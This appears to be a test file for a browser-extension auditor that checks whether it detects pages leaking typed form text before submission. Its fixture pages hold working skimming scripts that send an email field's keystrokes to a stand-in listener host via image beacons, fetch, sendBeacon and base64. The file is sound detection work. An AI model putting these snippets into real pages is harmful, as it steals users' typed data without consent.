import {afterAll, beforeAll, describe, expect, test} from 'vitest';
import type {Service} from '../../demo/service.ts';
import type {Observation} from '../../src/audit/index.ts';
import {audited, type Lab} from './support/audited.ts';
import {labs, type Labs} from './support/labs.ts';
import {browsers} from './support/world.ts';

const typed = 'kari.nordmann+nyhet@post.example';
const away = 'https://lytter.example/beacon';

/** What a page does with its field; `send` is whatever leaves, `after` waits until nobody has typed for so long. */
const script = `
const field = document.querySelector('input, textarea');
let timer;
const after = ms => send => { clearTimeout(timer); timer = setTimeout(send, ms); };
const post = (body, type) => fetch('${away}', {method: 'POST', mode: 'no-cors', body, headers: {'content-type': type}});
`;
const form = (input: string, does: string) =>
	`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Form</title></head><body>
<form action="/" method="post">${input}<button>Send</button></form><script>${script}${does}</script></body></html>`;
const email = '<input type="email" name="email">';

const listening = {
	'each key, in an address': form(email, `field.oninput = () => { new Image().src = '${away}?v=' + field.value; };`),
	'each key, encoded': form(
		email,
		`field.oninput = () => { new Image().src = '${away}?v=' + encodeURIComponent(field.value); };`,
	),
	'a form’s body, after a while': form(
		email,
		`field.oninput = () => after(500)(() => post(new URLSearchParams({email: field.value})));`,
	),
	'JSON, after a while': form(
		email,
		`field.oninput = () => after(200)(() => navigator.sendBeacon('${away}', JSON.stringify({email: field.value})));`,
	),
	'base64, when the field is left': form(
		email,
		`field.onchange = () => { new Image().src = '${away}?v=' + encodeURIComponent(btoa(field.value)); };`,
	),
};

const innocent = {
	'what is sent when it is handed in': form(
		email,
		`document.forms[0].onsubmit = event => { event.preventDefault(); post(JSON.stringify({email: field.value}), 'text/plain'); };`,
	),
	'what a button sends without a form': form(
		email,
		`document.querySelector('button').onclick = event => { event.preventDefault(); post(JSON.stringify({email: field.value}), 'text/plain'); };`,
	),
	'a search that asks the site itself': form(
		'<input type="search">',
		`field.oninput = () => fetch('/beacon?q=' + encodeURIComponent(field.value));`,
	),
	'a password': form(
		'<input type="password">',
		`field.oninput = () => { new Image().src = '${away}?v=' + encodeURIComponent(field.value); };`,
	),
	'requests to others that do not carry it': form(
		email,
		`field.oninput = () => { new Image().src = '${away}?typed=' + field.value.length; };`,
	),
};

const pages = {...listening, ...innocent};
const paths = Object.keys(pages);
const addressOf = (name: string) => `https://skjema.example/page${paths.indexOf(name)}`;
const services: readonly Service[] = [
	{
		id: 'form',
		hosts: ['skjema.example'],
		answer: ({path}) =>
			path === '/beacon'
				? {status: 204, headers: {}, body: ''}
				: {
						status: 200,
						headers: {'content-type': 'text/html; charset=utf-8'},
						body: Object.values(pages)[Number(path.replace('/page', ''))] ?? '',
					},
	},
	{id: 'listener', hosts: ['lytter.example'], answer: () => ({status: 204, headers: {}, body: ''})},
];

const signs = (seen: readonly Observation[]) => seen.flatMap(each => (each.kind === 'technique' ? [each] : []));

describe.each(browsers)('in %s, what is typed and not handed in', kind => {
	let all: Labs;
	beforeAll(async () => {
		all = await labs(kind, services);
	});
	afterAll(() => all?.close());

	const typeIn = (there: Lab, name: string) =>
		audited(there, addressOf(name), async page => {
			await page.type('input', typed, {delay: 15});
			await page.keyboard.press('Tab');
			// Whoever types rests before the next thing.
			await new Promise(resolve => setTimeout(resolve, 900));
			await page.click('button');
		});

	test.concurrent.each(Object.keys(listening))('is seen leaving: %s', async name => {
		const {seen} = await all.use(there => typeIn(there, name));
		const [sign, ...others] = signs(seen);
		expect(sign).toMatchObject({technique: 'keystrokes', sign: 'typed-text-sent', script: null, page: addressOf(name)});
		expect(others).toEqual([]);
		const carrier = seen.find(each => each.kind === 'request' && each.id === sign?.request);
		expect(carrier).toMatchObject({url: expect.stringContaining(away)});
	});

	test.concurrent.each(Object.keys(innocent))('is not made of %s, and is kept nowhere', async name => {
		const {seen, evidence, stored} = await all.use(async there => ({
			...(await typeIn(there, name)),
			stored: await sessionStorageOf(there),
		}));
		expect(signs(seen)).toEqual([]);
		const sent = seen.filter(each => each.kind === 'request' && /beacon/.test(each.url));
		expect(sent.length, 'the page did not do its thing').toBeGreaterThan(0);
		// Addresses and bodies are what the page sent, resources the page's own list of them.
		const rest = seen.filter(({kind}) => !['request', 'response', 'request-failed', 'resources'].includes(kind));
		for (const kept of [{...evidence, runs: rest}, stored]) {
			expect(JSON.stringify(kept)).not.toMatch(/kari|nordmann|a2FyaS/i);
		}
	});
});

async function sessionStorageOf({driven}: Lab): Promise<unknown> {
	return await driven.control.evaluate(async () => {
		const {browser, chrome} = globalThis as unknown as Record<'browser' | 'chrome', typeof globalThis.chrome>;
		const {session, local} = (browser ?? chrome).storage;
		return [await session.get(null), await local.get(null)];
	});
}
